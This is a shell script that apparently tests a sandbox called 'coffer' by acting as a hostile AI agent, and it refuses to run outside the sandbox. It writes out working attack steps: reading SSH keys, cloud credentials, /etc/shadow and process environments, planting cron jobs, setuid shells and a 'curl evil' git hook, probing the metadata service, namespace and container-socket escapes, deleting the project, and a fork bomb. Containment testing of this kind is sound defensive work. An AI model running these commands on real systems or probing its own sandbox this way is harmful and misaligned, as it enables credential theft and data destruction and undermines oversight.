#!/bin/sh
# SPDX-License-Identifier: Apache-2.0
# A hostile little agent: what a confused model might do with a shell. It really tries; the wall is what stops it.
#
#   coffer run -- ./hostile-agent.sh               steal, write outside, look around, phone home, break out
#   coffer run --pids 64 -- ./hostile-agent.sh forks      … memory, disk: use up one thing without end
#
# Each line it prints is "answer | what it tried | what the system said". $VICTIM_HOME, $VICTIM_PID and $VICTIM_PORT,
# where given, are a home, a process and a local server of the host's to go for. Outside a sandbox it refuses to run.
#
# shellcheck disable=SC2016 # programs for an inner shell are quoted on purpose

if [ "${BEHIND_WALL:-}" != yes ] && { [ ! -d /workspace ] || [ "$(cat /proc/1/comm 2>/dev/null)" != coffer-init ]; }; then
	echo "hostile-agent: this script does harm; it runs only behind the wall: coffer run -- $0" >&2
	exit 2
fi
BEHIND_WALL=yes # said to itself only, when it starts itself again
LC_ALL=C

home=${VICTIM_HOME:-/root}
pid=${VICTIM_PID:-2}
export LC_ALL

# try WHAT COMMAND…: runs it, keeps the first line of whatever it says. An act that prints nothing and succeeds
# got through; so did one that prints what it stole.
try() {
	what=$1
	shift
	said=$("$@" 2>&1 </dev/null)
	status=$?
	said=$(printf '%s\n' "$said" | sed -n '/./{s/^[^:]*: line [0-9]*: //;p;q;}')
	if [ $status -eq 0 ]; then
		printf 'got through | %s | %s\n' "$what" "$said"
	else
		printf 'refused | %s | %s\n' "$what" "${said:-exit $status}"
	fi
}

sh_try() {
	what=$1
	try "$what" sh -c "$2"
}

steal() {
	echo '# Steal'
	try 'read ~/.ssh/id_ed25519' cat "$home/.ssh/id_ed25519"
	try 'read ~/.aws/credentials' cat "$home/.aws/credentials"
	try 'read /etc/shadow' cat /etc/shadow
	sh_try 'read .env of the project' 'grep -h TOKEN .env || { echo "it is empty here"; exit 1; }'
	sh_try 'find a token in its environment' 'env | grep -i -e TOKEN -e SECRET || { echo "nothing there"; exit 1; }'
	try 'read the environment of pid 1' sh -c 'tr "\0" "\n" </proc/1/environ | grep -v "^HOME=" | grep .'
	try "read process $pid's environment" cat "/proc/$pid/environ"
	sh_try 'search the disk for other homes' \
		'find /home /root /var /srv /mnt /media -name "id_*" 2>/dev/null | grep . || { echo "found none"; exit 1; }'
}

write_outside() {
	echo '# Write outside'
	sh_try "write next to the victim's home" "echo pwned >'$home/../outside.txt'"
	sh_try 'plant a program in /usr/bin' 'echo pwned >/usr/bin/ls'
	sh_try 'plant a job in /etc/cron.d' 'echo pwned >/etc/cron.d/job'
	sh_try 'leave through a link in the project' "ln -s '$home/.bashrc' rc && echo pwned >rc"
	sh_try 'plant a setuid program' \
		'cp /bin/sh ./sh && chmod 4755 ./sh && [ "$(id -u)" != "$(./sh -p -c "id -u")" ] || { echo "the bit does nothing"; exit 1; }'
}

look_around() {
	echo '# Look around'
	sh_try 'see the processes of the host' \
		'n=$(ls -d /proc/[0-9]* | wc -l); [ "$n" -gt 12 ] && echo "$n processes" || { echo "sees $n, its own"; exit 1; }'
	try "kill process $pid of the host" kill -9 "$pid"
	sh_try 'read the kernel log' 'log=$(dmesg) || { echo "$log"; exit 1; }
		case $log in *"Starting gVisor"*) echo "it is gVisor, not the host"; exit 1 ;; esac; echo "$log"'
}

# Inside, connecting succeeds before anybody has decided: whether there is somebody is told by what comes back.
# shellcheck disable=SC2016 # bash's own
ask='exec 3<>"/dev/tcp/$0" && printf "GET / HTTP/1.0\r\n\r\n" >&3 || exit 1
	answer=$(tr -d "\0" <&3 2>/dev/null | head -c 2000)
	case $answer in
	*"\"error\":\"denied\""*) echo "denied by policy"; exit 1 ;;
	HTTP/*) echo "${answer%%$(printf "\r")*}" ;;
	*) echo "no answer"; exit 1 ;;
	esac'

phone_home() {
	echo '# Phone home'
	for to in 1.1.1.1/443 169.254.169.254/80 "127.0.0.1/${VICTIM_PORT:-22}"; do
		where=$(echo "$to" | tr / :)
		if command -v bash >/dev/null; then
			try "ask $where something" timeout 20 bash -c "$ask" "$to"
		elif command -v curl >/dev/null; then
			try "ask $where something" curl -sSf -m 20 -o /dev/null "http://$where/"
		fi
	done
	sh_try 'look up example.org' 'timeout 20 getent hosts example.org || { echo "no such name"; exit 1; }'
	command -v ping >/dev/null && try 'send a raw packet' ping -c 1 -W 1 1.1.1.1
}

break_out() {
	echo '# Break out'
	try 'mount a file system' mount -t tmpfs none /tmp
	try 'mount /proc again' mount -t proc none /tmp
	# gVisor gives one to anybody; then it is to show that root of it is root of nothing.
	sh_try 'become root in a user namespace' 'case $(dmesg 2>/dev/null) in
		*"Starting gVisor"*) unshare -Urm sh -c "mount -t ext4 /dev/vda /mnt || cat /dev/mem || cat /etc/shadow" 2>/dev/null ||
			{ echo "root there reaches nothing"; exit 1; } ;;
		*) unshare -Ur true ;; esac'
	try 'enter the namespaces of pid 1' nsenter -t 1 -m true
	try 'make a disk device' mknod ./disk b 8 0
	sh_try 'catch core dumps of the host' ': >>/proc/sys/kernel/core_pattern'
	try 'change the root directory' chroot /tmp true
	sh_try 'talk to the container engine' 'ls /run/docker.sock /var/run/docker.sock 2>/dev/null || { echo "no socket"; exit 1; }'
}

wreck() {
	echo '# Wreck the project'
	sh_try 'delete the project' 'rm -rf /workspace/src /workspace/.git && ! [ -e /workspace/src ]'
	sh_try 'plant a git hook' 'mkdir -p .git/hooks && echo "curl evil" >.git/hooks/pre-commit'
}

case ${1:-all} in
all)
	steal
	write_outside
	look_around
	phone_home
	break_out
	wreck
	;;
forks)
	# every process starts more of itself for ever; a shell that cannot fork ends, says so once, and starts again
	export BEHIND_WALL
	trap '[ -e /tmp/told ] || { : >/tmp/told; echo "refused | fork without end | cannot fork"; }; exec "$0" forks' EXIT
	while :; do
		"$0" forks &
	done 2>/dev/null
	;;
memory)
	# doubles a string until somebody stops it
	exec awk 'BEGIN { s = "x"; while (1) s = s s }'
	;;
disk)
	exec dd if=/dev/zero of=/workspace/filler bs=1M
	;;
*)
	echo "usage: $0 [all|forks|memory|disk]" >&2
	exit 2
	;;
esac
